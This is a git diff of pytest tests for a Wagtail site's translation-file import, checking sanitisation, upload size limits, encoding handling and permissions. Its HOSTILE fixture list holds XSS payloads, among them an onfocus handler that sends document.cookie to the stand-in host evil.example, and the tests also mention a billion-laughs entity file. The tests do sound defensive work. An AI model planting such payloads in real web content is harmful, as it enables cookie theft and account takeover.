@@ -3,10 +3,12 @@ and the translated file comes back as one new draft per page, never overwriting 
 changed since the export and never letting in markup the Spanish text lacks."""
 
 import copy
+import json
 import xml.etree.ElementTree as ET  # noqa: S405 - reads files this site wrote
 
 import polib
 import pytest
+from bs4 import BeautifulSoup
 from django.contrib.auth.models import Group, Permission
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
@@ -200,6 +202,19 @@ def test_a_field_of_the_page_is_imported_too(admin_in, about):
     assert latest_version(about).title_en == "About the Process"
 
 
+@pytest.mark.parametrize(
+    "text", ["About 80% of the Process", "50 % de los {casos}", "Sets {like} this"]
+)
+def test_a_page_text_may_hold_percent_signs_and_braces(admin_in, about, text):
+    # A page's text is never formatted: only interface strings keep their source's placeholders.
+    client = admin_in("en")
+    exported = export(client, language="en", page=about.pk, format="po", state="done")
+
+    upload(client, fill_po(exported.content.decode(), {"title": text}), "t.po")
+
+    assert latest_version(about).title_en == text
+
+
 def test_the_report_says_what_was_imported_and_links_to_the_editor_and_the_queue(admin_in, about):
     client = admin_in("en")
     exported = export(client, language="en", page=about.pk, format="xliff").content.decode()
@@ -321,10 +336,19 @@ def test_a_body_without_the_spanish_layout_asks_for_it_to_be_copied_first(admin_
             f'<xliff xmlns="{XLIFF_NS}" version="2.0" srcLang="es" trgLang="en">&lol3;</xliff>',
             "declares a document type or entities",
         ),
-        (b"\xff\xfe\x00binary", "neither XLIFF nor a PO file"),
+        (b"\xff\xfe\x00binary", "The file is not in UTF-8"),
+        (b"\x80\x81binary", "neither XLIFF nor a PO file"),
         ('msgid ""\nmsgstr ""\n"Language: en\\n"\n', "no texts exported from this site"),
     ],
-    ids=["malformed XML", "other XML", "not a PO file", "billion laughs", "binary", "empty PO"],
+    ids=[
+        "malformed XML",
+        "other XML",
+        "not a PO file",
+        "billion laughs",
+        "binary with a UTF-16 mark",
+        "binary",
+        "empty PO",
+    ],
 )
 def test_a_file_that_cannot_be_read_is_a_form_error(admin_in, about, content, error):
     response = upload(admin_in("en"), content)
@@ -355,7 +379,10 @@ def test_a_user_who_cannot_edit_the_page_imports_nothing_into_it(
     exported = export(admin_in("en"), language="en", page=about.pk, format="xliff")
     reader = django_user_model.objects.create_user("lectora", "lectora@example.org", "x")
     readers = Group.objects.create(name="Readers")
-    readers.permissions.add(Permission.objects.get(codename="access_admin"))
+    readers.permissions.add(
+        Permission.objects.get(codename="access_admin"),
+        Permission.objects.get(codename="import_translation_files"),
+    )
     reader.groups.add(readers)
     client.force_login(speaking(reader, "en"))
 
@@ -424,3 +451,352 @@ def test_the_report_speaks_spanish_to_a_spanish_admin(admin_in, about):
 
     assert "Idioma EN. Importados: 1, omitidos: 0, rechazados: 1." in page
     assert "Cambió después de la exportación" in page
+
+
+# Item 2: markup compared as parsed, imported rich text stored as the editor stores it, and the
+# import kept for the people who translate.
+
+HIDDEN_HANDLER = (
+    '<p data-block-key="k1">Read the Quito <a href="https://example.org/declaracion '
+    'data-block-key=" autofocus onfocus=\'fetch(`//evil.example/`+document.cookie)\' x="">'
+    "declaration</a>.</p>"
+)
+HOSTILE = [
+    HIDDEN_HANDLER,
+    '<p data-block-key="k1">Read the Quito <a href="https://example.org/declaracion '
+    'data-block-key=" style=animation-name:spin onanimationstart=alert(1) x="">'
+    "declaration</a>.</p>",
+    '<p data-block-key="k1">Read the Quito <a href="https://example.org/declaracion" '
+    'data-block-key="y" onclick="alert(1)">declaration</a>.</p>',
+    '<p data-block-key="k1">Read the Quito <a href="javascript:alert(1)">declaration</a>.</p>',
+    '<p data-block-key="k1">Read the Quito <a href="https://example.org/declaracion" '
+    'title="<img src=x onerror=alert(1)>">declaration</a>.</p>',
+    '<p data-block-key="k1">Read the Quito <a href=https://example.org/declaracion '
+    "onmouseover=alert(1)>declaration</a>.</p>",
+    '<p data-block-key="k1 onclick=alert(1)">Read the Quito '
+    '<a href="https://example.org/declaracion">declaration</a>.</p>',
+]
+HOSTILE_IDS = [
+    "handler hidden in a link target",
+    "another handler hidden in a link target",
+    "handler next to a paragraph id",
+    "javascript link",
+    "tag in an attribute",
+    "unquoted attributes",
+    "handler inside a paragraph id",
+]
+
+
+def hostile_markup(html, *, elements=True):
+    """Event handlers, autofocus, script links (and elements the editor never stores in a
+    paragraph), as a browser's parser would find them in `html`."""
+    found = []
+    for tag in BeautifulSoup(html, "html.parser").find_all(True):
+        if elements and tag.name in ("img", "span", "svg", "iframe", "script"):
+            found.append(tag.name)
+        for name, value in tag.attrs.items():
+            value = " ".join(value) if isinstance(value, list) else value
+            if name.startswith("on") or name == "autofocus":
+                found.append(name)
+            elif "javascript:" in "".join(str(value).lower().split()):
+                found.append(f"{name}={value}")
+    return found
+
+
+def stored_bodies(page):
+    """The English body's paragraphs of every revision of `page`."""
+    for revision in page.revisions.all():
+        body = revision.content.get("body_en") or "[]"
+        for block in json.loads(body) if isinstance(body, str) else body:
+            if isinstance(block.get("value"), str):
+                yield block["value"]
+
+
+def has_no_hostile_markup(html):
+    return not hostile_markup(html)
+
+
+@pytest.fixture
+def moderator_client(client, staff):
+    def login():
+        client.logout()
+        client.force_login(speaking(staff("moderadora", "Moderators"), "en"))
+        return client
+
+    return login
+
+
+@pytest.mark.parametrize("translation", HOSTILE, ids=HOSTILE_IDS)
+def test_a_translation_with_a_hidden_handler_or_script_link_never_reaches_a_revision(
+    client, admin_in, about, translator, moderator_client, translation
+):
+    exported = export(admin_in("en"), language="en", page=about.pk, format="xliff")
+    client.force_login(speaking(translator, "en"))
+
+    response = upload(client, fill_xliff(exported.content.decode(), {"body/p-1": translation}))
+
+    assert response.status_code == 200
+    for paragraph in stored_bodies(about):
+        assert has_no_hostile_markup(paragraph)
+    draft = moderator_client().get(
+        reverse("wagtailadmin_pages:view_draft", args=[about.pk]), {"mode": "en"}
+    )
+    assert draft.status_code == 200
+    assert not hostile_markup(draft.content.decode(), elements=False)
+
+
+def test_a_translation_keeping_the_sources_markup_and_ids_is_still_imported(admin_in, about):
+    client = admin_in("en")
+    exported = export(client, language="en", page=about.pk, format="po").content.decode()
+    # The same tags, with attributes in another order and the paragraph id dropped.
+    translation = "<p>Read the Quito <a href='https://example.org/declaracion'>declaration</a>.</p>"
+
+    upload(client, fill_po(exported, {"body/p-1": translation}), name="t.po")
+
+    stored = latest_body_en(about)["p-1"]
+    assert 'Read the Quito <a href="https://example.org/declaracion">declaration</a>.' in stored
+
+
+def test_imported_rich_text_is_stored_as_the_editor_stores_it(admin_in, home):
+    # A Spanish text that never went through the editor (written by a script, or older than a
+    # feature's removal): markup the editor would not keep must not survive an import either.
+    body = [
+        {
+            "type": "paragraph",
+            "id": "p-1",
+            "value": '<p>Lea <a href="javascript:alert(1)">esto</a> '
+            '<span onclick="alert(2)">ya</span>.</p>',
+        }
+    ]
+    page = StandardPageFactory(parent=home, body_es=body, body_en=copy.deepcopy(body))
+    page.save_revision().publish()
+    states.refresh_page(page)
+    client = admin_in("en")
+    exported = export(client, language="en", page=page.pk, format="xliff").content.decode()
+    translation = (
+        '<p>Read <a href="javascript:alert(1)">this</a> <span onclick="alert(2)">now</span>.</p>'
+    )
+
+    upload(client, fill_xliff(exported, {"body/p-1": translation}))
+
+    stored = latest_body_en(page)["p-1"]
+    assert "Read" in stored and "now" in stored
+    assert has_no_hostile_markup(stored)
+    assert "<span" not in stored
+
+
+def test_an_imported_rich_text_field_is_stored_as_the_editor_stores_it(admin_in, home):
+    page = TechnicalSecretariatPageFactory(
+        parent=home, history_es="<p>Creada en 2018.</p>", history_en=""
+    )
+    page.save_revision().publish()
+    states.refresh_page(page)
+    client = admin_in("en")
+    exported = export(client, language="en", page=page.pk, format="po").content.decode()
+
+    upload(client, fill_po(exported, {"history": "<p>Created in 2018.</p>"}), name="t.po")
+
+    stored = latest_version(page).history_en
+    # The editor's converter gives each paragraph an id: the text went through it.
+    assert stored.startswith('<p data-block-key="') and stored.endswith(">Created in 2018.</p>")
+
+
+def test_imported_rich_text_the_editor_cannot_read_is_refused(admin_in, about):
+    client = admin_in("en")
+    exported = export(client, language="en", page=about.pk, format="xliff").content.decode()
+    # The source's tags, closed in another order: the editor's converter cannot read it.
+    translation = (
+        '<p data-block-key="k1">Read the Quito <a href="https://example.org/declaracion">'
+        "declaration</p>.</a>"
+    )
+
+    response = upload(client, fill_xliff(exported, {"body/p-1": translation}))
+
+    assert latest_body_en(about)["p-1"] == BODY[1]["value"]
+    assert "The editor cannot read this text's HTML" in text(parse(response))
+
+
+def test_a_plain_text_with_markup_characters_is_shown_escaped(admin_in, about, moderator_client):
+    client = admin_in("en")
+    exported = export(client, language="en", page=about.pk, format="xliff").content.decode()
+
+    upload(client, fill_xliff(exported, {"body/h-1/text": 'Who we are: 5 > 3 & "us"'}))
+
+    assert latest_body_en(about)["h-1"]["text"] == 'Who we are: 5 > 3 & "us"'
+    draft = moderator_client().get(
+        reverse("wagtailadmin_pages:view_draft", args=[about.pk]), {"mode": "en"}
+    )
+    assert "Who we are: 5 &gt; 3 &amp; &quot;us&quot;" in draft.content.decode()
+
+
+def test_a_translator_may_import_and_sees_the_import(client, translator, about):
+    client.force_login(speaking(translator, "en"))
+
+    assert client.get(reverse("translation_queue:import")).status_code == 200
+    queue = parse(client.get(reverse("translation_queue:queue")))
+    assert reverse("translation_queue:import") in {a.get("href") for a in queue.select("a")}
+
+
+@pytest.mark.parametrize("role", ["Editors", "Moderators"])
+def test_an_editor_or_moderator_may_not_import_nor_sees_the_import(
+    client, admin_in, staff, about, role
+):
+    exported = export(admin_in("en"), language="en", page=about.pk, format="xliff")
+    client.logout()
+    client.force_login(speaking(staff("persona", role), "en"))
+
+    # Wagtail answers a PermissionDenied in the admin with a redirect to the dashboard.
+    refused = client.get(reverse("translation_queue:import"))
+    assert (refused.status_code, refused.url) == (302, reverse("wagtailadmin_home"))
+    response = upload(client, fill_xliff(exported.content.decode(), ENGLISH))
+    assert (response.status_code, response.url) == (302, reverse("wagtailadmin_home"))
+    assert about.revisions.count() == 1
+    for url in (reverse("translation_queue:queue"), reverse("translation_queue:export")):
+        links = {a.get("href") for a in parse(client.get(url)).select("a")}
+        assert reverse("translation_queue:import") not in links
+
+
+def test_the_import_permission_can_be_given_in_the_group_editor(admin_in):
+    response = admin_in("en").get(reverse("wagtailusers_groups:add"))
+
+    assert "Can import translated files into pages" in response.content.decode()
+
+
+# Item 9: a PO file is measured before polib parses it.
+
+
+def po_with(body):
+    return 'msgid ""\nmsgstr ""\n"Language: en\\n"\n\n' + body
+
+
+@pytest.mark.parametrize(
+    ("content", "error"),
+    [
+        (po_with("#. comment\n" * 70_000), "more than 60000 lines"),
+        (
+            po_with("# " + "c" * 70 + "\n" * 1 + ("#. " + "c" * 70 + "\n") * 1500)
+            + 'msgctxt "1|title"\nmsgid "a"\nmsgstr "b"\n',
+            "is too long for a translation exchange file",
+        ),
+        (
+            po_with('msgctxt "1|title"\nmsgid "a"\nmsgstr ""\n' + ('"' + "b" * 998 + '"\n') * 250),
+            "is too long for a translation exchange file",
+        ),
+        (
+            po_with(
+                "".join(
+                    f'msgctxt "1|t{index}"\nmsgid "a"\nmsgstr ""\n'
+                    + ('"' + "b" * 998 + '"\n') * 120
+                    for index in range(12)
+                )
+            ),
+            "split over too many lines",
+        ),
+        (
+            po_with("".join(f'msgctxt "1|t{i}"\nmsgid "a"\nmsgstr "b"\n\n' for i in range(5001))),
+            "more than 5000 texts",
+        ),
+    ],
+    ids=["many comment lines", "a long comment", "a long continued text", "long texts", "texts"],
+)
+def test_a_po_file_too_costly_to_parse_is_refused_before_parsing(
+    client, translator, about, content, error
+):
+    client.force_login(speaking(translator, "en"))
+
+    response = upload(client, content, name="crafted.po")
+
+    assert response.status_code == 200
+    assert error in text(parse(response))
+    assert about.revisions.count() == 1
+
+
+# Item 10: crafted files are form errors, never 500s.
+
+
+def xliff_with(original="1", declaration='<?xml version="1.0" encoding="UTF-8"?>'):
+    return (
+        f'{declaration}<xliff xmlns="{XLIFF_NS}" version="2.0" srcLang="es" trgLang="en">'
+        f'<file id="page-{original}" original="{original}"><unit id="title" name="title">'
+        "<segment><source>Hola</source><target>Hello</target></segment></unit></file></xliff>"
+    )
+
+
+@pytest.mark.parametrize(
+    ("content", "error"),
+    [
+        (xliff_with(original="²"), "The page no longer exists."),
+        (xliff_with(original="١٢"), "The page no longer exists."),
+        (
+            po_with('msgctxt "²|title"\nmsgid "Hola"\nmsgstr "Hello"\n'),
+            "The page no longer exists.",
+        ),
+        (
+            xliff_with(declaration='<?xml version="1.0" encoding="shift_jis"?>'),
+            "declares the encoding shift_jis",
+        ),
+        (
+            xliff_with(declaration='<?xml version="1.0" encoding="euc-jp"?>'),
+            "declares the encoding euc-jp",
+        ),
+        (
+            xliff_with(declaration='<?xml version="1.0" encoding="x-no-such-thing"?>'),
+            "declares the encoding x-no-such-thing",
+        ),
+        (
+            xliff_with(declaration='<?xml version="1.0" encoding="ISO-8859-1"?>'),
+            "declares the encoding ISO-8859-1",
+        ),
+        (
+            b"\xff\xfe" + xliff_with(declaration='<?xml version="1.0"?>').encode("utf-16-le"),
+            "The file is not in UTF-8",
+        ),
+        (
+            b"\xfe\xff" + po_with('msgctxt "1|title"\nmsgid "a"\nmsgstr "b"\n').encode("utf-16-be"),
+            "The file is not in UTF-8",
+        ),
+        (xliff_with().encode().replace(b"Hello", b"Hell\xe9"), "The file is not in UTF-8"),
+    ],
+    ids=[
+        "superscript page id in XLIFF",
+        "arabic-indic page id in XLIFF",
+        "superscript page id in PO",
+        "shift_jis",
+        "euc-jp",
+        "unknown encoding",
+        "latin-1",
+        "UTF-16 XLIFF",
+        "UTF-16 PO",
+        "invalid UTF-8",
+    ],
+)
+def test_a_crafted_file_is_a_form_error_or_a_refusal_never_a_500(
+    client, translator, about, content, error
+):
+    client.force_login(speaking(translator, "en"))
+
+    response = upload(client, content)
+
+    assert response.status_code == 200
+    assert error in text(parse(response))
+    assert about.revisions.count() == 1
+
+
+def test_an_inline_item_key_with_unicode_digits_is_refused(client, admin_in, translator, home):
+    page = TechnicalSecretariatPageFactory(parent=home)
+    SecretariatRoleFactory(page=page, role_es="Punto focal", role_en="Punto focal")
+    page.save_revision().publish()
+    states.refresh_page(page)
+    exported = export(admin_in("en"), language="en", page=page.pk, format="po")
+    po = polib.pofile(exported.content.decode())
+    for entry in po:
+        if entry.msgctxt.split("|", 1)[1].startswith("team/"):
+            entry.msgctxt = f"{page.pk}|team/²/role"
+            entry.msgstr = "Focal point"
+    client.logout()
+    client.force_login(speaking(translator, "en"))
+
+    response = upload(client, str(po), name="t.po")
+
+    assert response.status_code == 200
+    assert page.revisions.count() == 1
